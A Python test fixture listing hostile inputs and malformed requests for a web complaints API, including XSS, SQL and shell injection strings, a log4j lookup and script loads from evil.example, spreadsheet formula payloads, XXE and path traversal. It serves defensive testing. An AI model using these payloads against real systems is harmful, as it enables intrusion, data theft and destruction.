"""What somebody who means harm sends, as data. TEXTS go wherever words go; REQUESTS are whole requests to the API or a page."""

import json
from dataclasses import dataclass, field

BIDI = "Ordinary \u202etxet denrut\u202c end \u2066hidden\u2069"
TEXTS: dict[str, str] = {
    # a page that runs it
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "broken out of an attribute": '"><img src=x onerror=alert(1)>',
    "broken out of a single-quoted attribute": "' autofocus onfocus=alert(1) x='",
    "picture from elsewhere": "<img src=http://169.254.169.254/latest/meta-data/>",
    "file as picture": "<img src=file:///etc/passwd>",
    "drawing": "<svg/onload=alert(1)><image href='http://127.0.0.1:9/x'/></svg>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "base": "<base href='https://evil.example/'>",
    "form": "<form action=https://evil.example><input name=password></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style": "<style>@import 'http://evil.example/x.css';</style>",
    "link that attaches": "<link rel=attachment href='file:///etc/passwd'>",
    "end of a comment": "--><script>alert(1)</script><!--",
    "end of a text area": "</textarea><script>alert(1)</script>",
    "end of a title": "</title><script>alert(1)</script>",
    "javascript address": "javascript:alert(document.cookie)",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3C;b&#x3E;",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "htmx": '<div hx-get="/sign-out/" hx-trigger="load" data-hx-on="x"></div>',
    "markdown": "[press](javascript:alert(1)) ![x](http://evil.example/x.png)",
    # a template, a database, a shell that runs it
    "django template": "{{ request.user.password }}{% debug %}{% include '/etc/passwd' %}",
    "jinja template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format string": "{0.__class__.__init__.__globals__} %s %(x)s %n ${7*7} #{7*7}",
    "sql": "'; drop table homes_child; --",
    "sql union": "' union select password from homes_user --",
    "sql wait": "1' or pg_sleep(10)--",
    "shell": "$(touch /tmp/hub-was-here) `id` | cat /etc/passwd; true",
    "log4j": "${jndi:ldap://evil.example/a}",
    # a spreadsheet that runs it
    "formula": "=cmd|' /C calc'!A0",
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula behind a blank": "  =HYPERLINK(\"http://evil.example\",\"press\")",
    "full-width formula": "＝HYPERLINK(\"http://evil.example\")",
    # lines where none belong
    "mail header": "Hello\r\nBcc: everybody@evil.example\r\n\r\nA body",
    "log line": "fine\n2026-11-23T00:00:00Z INFO hesley_hub.sign_in sign-in of admin",
    "line separators": "one\u2028two\u2029three\x85four",
    # letters that are not what they seem
    "right to left": BIDI,
    "no width": "Ro\u200bwan\ufeff \u00adHill",
    "look-alikes": "Аshа Rаhmаn",
    "stacked marks": "Z" + "\u0301\u0489" * 60,
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 5,
    "the longest plane": "\U0010ffff\U0001f4a9 \ufffe\uffff",
    "tags": "plain\U000e0041\U000e0042",
    "combining start": "\u0301start",
    # paths
    "path": "../../../../etc/passwd",
    "path encoded": "..%2f..%2f%2e%2e%2fetc%2fpasswd",
    "path of windows": "..\\..\\windows\\win.ini::$DATA",
    "null word": "null",
    "true word": "true",
    "number word": "1e400",
    "long": "x" * 5900,
    "long line of marks": "<" * 5000,
    "many lines": "line\r\n" * 900,
    "font": "<font size=1e9px>big</font>",
}  # fmt: skip
#: Texts that must be refused whole.
REFUSED: dict[str, str] = {
    "nul": "before\x00after",
    "half a pair": "\ud800 alone",
    "too long": "x" * 6001,
    "far too long": "x" * 200_000,
}


@dataclass(frozen=True)
class Sent:
    """A request as it is sent. status: what may be answered."""

    path: str
    status: tuple[int, ...]
    method: str = "POST"
    body: bytes = b""
    kind: str = "application/json"
    headers: dict[str, str] = field(default_factory=dict)
    cookies: dict[str, str] = field(default_factory=dict)


COMPLAINT = {
    "home": "DEMO001",
    "occurred_at": "2026-11-20T10:00:00Z",
    "known_at": "2026-11-20T10:00:00Z",
    "narrative": "Contact was cancelled.",
    "complaint_type": "placing_authority",
    "addressed_to_home": False,
}
TO = "/api/v1/complaints/"
DEEP = 100_000


def _body(**changed: object) -> bytes:
    return json.dumps(COMPLAINT | changed).encode()


REQUESTS: dict[str, Sent] = {
    # bodies
    "deep lists": Sent(TO, (400,), body=b"[" * DEEP),
    "deep objects": Sent(TO, (400,), body=b'{"a":' * DEEP + b"1" + b"}" * DEEP),
    "twenty-five levels": Sent(TO, (400,), body=b'{"a":' * 25 + b"1" + b"}" * 25),
    "a name twice": Sent(TO, (400,), body=_body()[:-1] + b', "home": "DEMO002"}'),
    "no JSON": Sent(TO, (400,), body=b"{'home': 1}"),
    "half of it": Sent(TO, (400,), body=_body()[:40]),
    "nothing": Sent(TO, (400,)),
    "a list": Sent(TO, (400,), body=b"[1, 2]"),
    "a word": Sent(TO, (400,), body=b'"home"'),
    "null": Sent(TO, (400,), body=b"null"),
    "not a number": Sent(TO, (400,), body=b'{"severity": NaN}'),
    "infinity": Sent(TO, (400,), body=b'{"severity": Infinity}'),
    "a number of ten thousand figures": Sent(TO, (400,), body=b'{"severity": ' + b"9" * 10_000 + b"}"),
    "bytes of no UTF-8": Sent(TO, (400,), body=b'{"narrative": "\xff\xfe\x80"}'),
    "UTF-16": Sent(TO, (400,), body=json.dumps(COMPLAINT).encode("utf-16")),
    "overlong UTF-8": Sent(TO, (400,), body=b'{"narrative": "\xc0\xaf"}'),
    "a form": Sent(TO, (415,), body=b"home=DEMO001", kind="application/x-www-form-urlencoded"),
    "XML": Sent(TO, (415,), body=b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", kind="application/xml"),
    "plain text": Sent(TO, (415,), body=_body(), kind="text/plain"),
    "a type of no kind": Sent(TO, (415,), body=_body(), kind="application/json\x01; x"),
    "a file": Sent(TO, (415,), body=b"--x\r\nContent-Disposition: form-data; name=a; filename=../../x\r\n\r\n1\r\n--x--", kind="multipart/form-data; boundary=x"),
    # values
    "severity of a googol": Sent(TO, (400,), body=_body(severity=10**100)),
    "severity below": Sent(TO, (400,), body=_body(severity=-1)),
    "a list for a word": Sent(TO, (400,), body=_body(narrative=["a"])),
    "an object for a word": Sent(TO, (400,), body=_body(home={"$ne": ""})),
    "year one": Sent(TO, (400,), body=_body(occurred_at="0001-01-01T00:00:00Z")),
    "year ten thousand": Sent(TO, (400,), body=_body(occurred_at="10000-01-01T00:00:00Z")),
    "tomorrow": Sent(TO, (400,), body=_body(occurred_at="9999-12-31T23:59:59+14:00")),
    "before the beginning of time": Sent(TO, (400,), body=_body(occurred_at="0001-01-01T00:00:00+14:00")),
    "no day": Sent(TO, (400,), body=_body(occurred_at="2026-02-30T00:00:00Z")),
    "a child that is a path": Sent(TO, (400,), body=_body(children=["../../etc/passwd"])),
    "somebody else's child": Sent(TO, (400,), body=_body(children=["01890000-0000-7000-8000-000000000000"])),
    "ten thousand children": Sent(TO, (400,), body=_body(children=["x"] * 10_000)),
    "a home with a NUL": Sent(TO, (400,), body=_body(home="DEMO\x00001")),
    "a home of half a pair": Sent(TO, (400,), body=_body().replace(b"DEMO001", rb"\ud800")),
    "fields that nobody may set": Sent(TO, (201, 400), body=_body(recorded_by="x", provider_sees=True, status="withdrawn", reference="X")),
    # headers
    "a key that is no UUID": Sent(TO, (400,), body=_body(), headers={"Idempotency-Key": "'; drop table --"}),
    "a key of a megabyte": Sent(TO, (400,), body=_body(), headers={"Idempotency-Key": "1" * 1_000_000}),
    "a token that is none": Sent("/api/v1/homes/", (401,), "GET", headers={"Authorization": "Bearer \x00\xff' or 1=1"}),
    "a token of a megabyte": Sent("/api/v1/homes/", (401,), "GET", headers={"Authorization": "Bearer " + "x" * 1_000_000}),
    "another scheme": Sent("/api/v1/homes/", (401,), "GET", headers={"Authorization": "Basic YWRtaW46YWRtaW4="}),
    "an answer of another kind": Sent("/api/v1/homes/", (406,), "GET", headers={"Accept": "text/html;q=x, */x"}),
    # addresses
    "a NUL in the address": Sent("/homes/%00/", (400,), "GET"),
    "a NUL in the query": Sent("/alerts/?home=%00", (400,), "GET"),
    "a NUL twice encoded": Sent("/alerts/?home=%2500", (200,), "GET"),
    "bytes in the address": Sent("/homes/%ff%fe/", (404, 400), "GET"),
    "half a pair in the query": Sent("/alerts/?home=%ed%a0%80", (200, 400), "GET"),
    "a path upwards": Sent("/static/../../../../etc/passwd", (404, 400), "GET"),
    "a path upwards encoded": Sent("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", (404, 400), "GET"),
    "settings by the static files": Sent("/static/..%2f..%2fhesley_hub/settings.py", (404, 400), "GET"),
    "the repository": Sent("/.git/config", (404,), "GET"),
    "an editor's copy": Sent("/hesley_hub/settings.py~", (404,), "GET"),
    "a page of no number": Sent("/alerts/?page=1e9999", (200, 404), "GET"),
    "a page before the first": Sent("/api/v1/incidents/?page=-1", (404,), "GET"),
    "a page of a googol": Sent("/api/v1/incidents/?page=" + "9" * 5000, (404, 400), "GET"),
    "a page size of no number": Sent("/api/v1/incidents/?page_size=x'--", (200,), "GET"),
    "a stream that is none": Sent("/api/v1/incidents/?stream=x' or 1=1 --", (200,), "GET"),
    "a day that is none": Sent("/api/v1/homes/DEMO001/timeline/?since=0000-00-00", (400,), "GET"),
    "a day with weeks": Sent("/api/v1/homes/DEMO001/timeline/?since=2026-W01-1", (200, 400), "GET"),
    "the first day of all": Sent("/api/v1/homes/DEMO001/timeline/?since=0001-01-01", (200, 400), "GET"),
    "a query of a thousand names": Sent("/alerts/?" + "&".join(f"a{n}=1" for n in range(2000)), (200, 400), "GET"),
    "a visit that is no key": Sent("/homes/DEMO001/briefing/?visit=x'--", (200, 404, 405), "GET"),
    # cookies
    "a session with a NUL": Sent("/alerts/", (400, 302), "GET", cookies={"sessionid": '"abcdefgh\\000"'}),
    "a session of code": Sent("/alerts/", (302,), "GET", cookies={"sessionid": "' or 1=1 --;<script>"}),
    "a session of a megabyte": Sent("/alerts/", (302,), "GET", cookies={"sessionid": "x" * 1_000_000}),
    "a mark that is a program": Sent("/sign-in/", (200,), "GET", cookies={"hub_known": "gASVCAAAAAAAAACMBHRlc3SULg=="}),
    "a token of a form that is none": Sent("/sign-in/", (200,), "GET", cookies={"csrftoken": "<script>"}),
    # forms
    "more fields than any form": Sent("/sign-in/", (400,), body="&".join(f"a{n}=1" for n in range(1001)).encode(), kind="application/x-www-form-urlencoded"),
    "a form of four megabytes": Sent("/sign-in/", (400,), body=b"login=" + b"x" * 4_000_000, kind="application/x-www-form-urlencoded"),
    "two files at once": Sent("/sign-in/", (400,), body=b"".join(b"--x\r\nContent-Disposition: form-data; name=f%d; filename=a\r\n\r\n1\r\n" % n for n in range(3)) + b"--x--", kind="multipart/form-data; boundary=x"),
    "a form without its end": Sent("/sign-in/", (200, 400), body=b"--x\r\nContent-Disposition: form-data; name=login", kind="multipart/form-data; boundary=x"),
    "a form without its mark": Sent("/sign-in/", (400,), body=b"x", kind="multipart/form-data"),
    "a name with a NUL": Sent("/sign-in/", (200,), body=b"login=a%00b&password=x", kind="application/x-www-form-urlencoded"),
    "a name of half a pair": Sent("/sign-in/", (200,), body=b"login=%ed%a0%80&password=x", kind="application/x-www-form-urlencoded"),
    "a form in another alphabet": Sent("/sign-in/", (200, 400), body=b"login=\xff", kind="application/x-www-form-urlencoded; charset=utf-7"),
    "a form in no alphabet": Sent("/sign-in/", (200, 400), body=b"login=a", kind="application/x-www-form-urlencoded; charset=../../x"),
    "a code that is none": Sent("/sign-in/code/", (302, 200, 405), body=b"code=000%0A000", kind="application/x-www-form-urlencoded"),
    "an invitation that is code": Sent("/sign-in/invited/%7B%7B7*7%7D%7D/", (404,), "GET"),
    "a first link that is a program": Sent("/sign-in/first/gASVCAAAAAAAAACMBHRlc3SULg==:x:y/", (404,), "GET"),
}  # fmt: skip
